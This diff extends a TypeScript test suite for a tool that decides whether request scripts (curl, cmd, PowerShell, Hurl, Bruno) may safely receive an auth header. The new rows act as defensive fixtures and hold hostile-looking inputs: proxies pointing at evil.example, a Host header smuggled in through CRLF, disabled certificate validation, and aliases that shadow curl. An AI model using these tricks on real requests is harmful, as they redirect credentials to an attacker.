@@ -46,6 +46,16 @@ describe('who may get the header', () => {
     ['another host', 'https://api.github.com/user', /^stray \d: https:\/\/api\.github\.com$/],
     ['another host with a path like ours', `https://h.example/${acme.customerId}/config/clients`, /^stray/],
     ['another customer', `${acme.origin}/${other}/config/clients`, new RegExp(`^stray \\d: ${other}$`)],
+    ...[
+      `${acme.origin}/%39zy87x65-4321-0987-w6vu-5t432s10rqp9/config/clients`,
+      `${acme.origin}//${other}/config/clients`,
+      `${acme.origin}/other/config/clients`,
+    ].map((url): [string, string, RegExp] => [
+      'a customer in an unusual way',
+      url,
+      /^unknown \d: its path names a customer in an unusual way$/,
+    ]),
+    ['no customer', `${acme.origin}/config/clients`, /^changed 1$/],
     ['a login endpoint', `${at}/login/token`, /^login \d$/],
     ['a login endpoint of somebody else', 'https://github.com/login/oauth/access_token', /^stray/],
   ];
@@ -163,13 +173,8 @@ describe('who may get the header', () => {
     const yaml = (rest: string) => `info:\n  type: http\nhttp:\n  method: GET\n  url: ${url}\n${rest}\n`;
     const headers = (name: string, value: string, more = '') =>
       yaml(`  headers:\n    - name: ${name}\n      value: ${value}${more}`);
-    const rows: readonly [
-      title: string,
-      format: RequestFormat,
-      text: string,
-      reference: RegExp,
-      token: RegExp,
-    ][] = [
+    type Row = [title: string, format: RequestFormat, text: string, reference: RegExp, token: RegExp];
+    const rows: readonly Row[] = [
       ...[
         'proxy: evil.example:8080',
         'connect-to: a:443:evil.example:443',
@@ -177,7 +182,7 @@ describe('who may get the header', () => {
         'unix-socket: /tmp/x',
         'location-trusted: true',
         'insecure: true',
-      ].map((option): [string, RequestFormat, string, RegExp, RegExp] => [
+      ].map((option): Row => [
         'an option',
         hurlFormat,
         hurl(`[Options]\n${option}`),
@@ -300,15 +305,13 @@ describe('who may get the header', () => {
         /^changed 1$/,
         /^changed 1$/,
       ],
-      ...['$X', '$(echo x)', '"$@"', '"${a[@]}"', '*', 'x$IFS"y"'].map(
-        (word): [string, RequestFormat, string, RegExp, RegExp] => [
-          'words of the shell',
-          posixFormat,
-          `curl ${url} -o ${word}\n`,
-          word.startsWith('"') ? /^$|^changed 1$/ : /^changed 1$/,
-          /^unknown 0: the shell may make|^$/,
-        ],
-      ),
+      ...['$X', '$(echo x)', '"$@"', '"${a[@]}"', '*', 'x$IFS"y"'].map((word): Row => [
+        'words of the shell',
+        posixFormat,
+        `curl ${url} -o ${word}\n`,
+        word.startsWith('"') ? /^$|^changed 1$/ : /^changed 1$/,
+        /^unknown 0: the shell may make|^$/,
+      ]),
       ['a variable in quotes', posixFormat, `curl "${url}?a=b" -o "$FILE"\n`, /^changed 1$/, /^changed 1$/],
       ['a query', posixFormat, `curl ${url}?a=b\n`, /^changed 1$/, /^changed 1$/],
       [
@@ -319,6 +322,117 @@ describe('who may get the header', () => {
         /^unknown 0: the shell may make/,
       ],
       ['an argument', cmdFormat, `curl -o %1 ${url}\n`, /^changed 1$/, /^unknown 0: the shell may make/],
+      ...['"%X%"', '"%~1"', '%%i', '"%%i"', '"%1"'].map((word): Row => [
+        'a value that is replaced before words are read',
+        cmdFormat,
+        `curl -o ${word} ${url}\n`,
+        /^changed 1$/,
+        /^unknown 0: the shell may make several words of %/,
+      ]),
+      ['a variable that stays one word', cmdFormat, `curl -o "!X!" ${url}\n`, /^changed 1$/, /^changed 1$/],
+      ...['"${x:-$@}"', '"${y:-${a[@]}}"', '"${1+"$@"}"', '"${a[*]+"${a[@]}"}"'].map((word): Row => [
+        'a list within an expansion in quotes',
+        posixFormat,
+        `curl -o ${word} ${url}\n`,
+        /^changed 1$|^elsewhere 0$/,
+        /^unknown 0: the shell may make several words of \$\w|^elsewhere 0$/,
+      ]),
+      [
+        'a list that stays one word',
+        posixFormat,
+        `curl -o "$(f "$@")" ${url}\n`,
+        /^changed 1$/,
+        /^changed 1$/,
+      ],
+      ...[
+        'http_proxy=http://evil.example curl',
+        'env HTTPS_PROXY=http://evil.example curl',
+        'export all_proxy=http://evil.example\ncurl',
+        'CURL_HOME=. curl',
+        'alias curl="curl -k"\ncurl',
+        'curl() { command curl -k "$@"; }\ncurl',
+      ].map((command): Row => [
+        'the environment or another curl',
+        posixFormat,
+        `${command} ${url}\n`,
+        /unknown \d: its script has/,
+        /unknown \d: its script has/,
+      ]),
+      ...['# export http_proxy=x', 'echo "$http_proxy"', 'unset https_proxy', 'HOMEPAGE=x'].map(
+        (line): Row => [
+          'a harmless line',
+          posixFormat,
+          `${line}\ncurl ${url}\n`,
+          /^changed 1$/,
+          /^changed 1$/,
+        ],
+      ),
+      ...['set http_proxy=http://evil.example', 'set "HTTPS_PROXY=http://e"', 'doskey curl=curl -k $*'].map(
+        (line): Row => [
+          'the environment',
+          cmdFormat,
+          `${line}\ncurl ${url}\n`,
+          /^unknown 1: its script has/,
+          /^unknown/,
+        ],
+      ),
+      ...[
+        '$env:http_proxy = "http://evil.example"',
+        '$PSDefaultParameterValues["*:Proxy"] = "http://e"',
+        '[System.Net.ServicePointManager]::ServerCertificateValidationCallback = {$true}',
+        '[System.Net.WebRequest]::DefaultWebProxy = $p',
+        'function irm { Invoke-RestMethod -Proxy e @args }',
+        'Set-Alias irm evil',
+      ].map((line): Row => [
+        'what counts for all requests',
+        powershellFormat,
+        `${line}\nirm ${url}\n`,
+        /unknown 1: its script has/,
+        /unknown 1: its script has/,
+      ]),
+      [
+        'parameters from a variable beside headers',
+        powershellFormat,
+        `irm ${url} -Headers @{ a = 1 } @p\n`,
+        /^unknown 0: its command has @p$/,
+        /^unknown/,
+      ],
+      ...[`'Ho'+'st'`, '$h', '("Host")', '"$h"'].map((name): Row => [
+        'a header whose name is an expression',
+        powershellFormat,
+        `irm ${url} -Headers @{ ${name} = '${evil}' }\n`,
+        /^unknown 0: only the shell knows the name/,
+        /^unknown/,
+      ]),
+      ...[
+        `-H $'X: a\\r\\nHost: evil.example'`,
+        '-H "Authorization: Bearer x" -H "$H"',
+        '-H "Authorization: Bearer x" -H @hdr',
+        '-H "Ho$s: evil.example"',
+        '-H "X: $(printf "a\\r\\nHost: evil.example")"',
+      ].map((option): Row => [
+        'a header that may be Host',
+        posixFormat,
+        `curl ${option} ${url}\n`,
+        /^unknown 0: /,
+        /^unknown 0: /,
+      ]),
+      [
+        'a header by a variable with a line break',
+        posixFormat,
+        `H=$'a\\r\\nHost: evil.example'\ncurl -H "X: $H" ${url}\n`,
+        /^unknown 1: only the shell knows its header \$H$/,
+        /^unknown/,
+      ],
+      ['a value of a header', posixFormat, `curl -H "X: $H" ${url}\n`, /^changed 1$/, /^changed 1$/],
+      [
+        'a name of a header',
+        brunoFormat,
+        bru('headers {\n  {{h}}: e\n}'),
+        /^unknown 0: only the client/,
+        /^unknown/,
+      ],
+      ['a name of a header', openCollectionFormat, headers('"{{h}}"', 'e'), /^unknown/, /^unknown/],
     ];
     for (const [title, format, text, reference, token] of rows) {
       it(`${title}: ${text.trim()}`, () => {
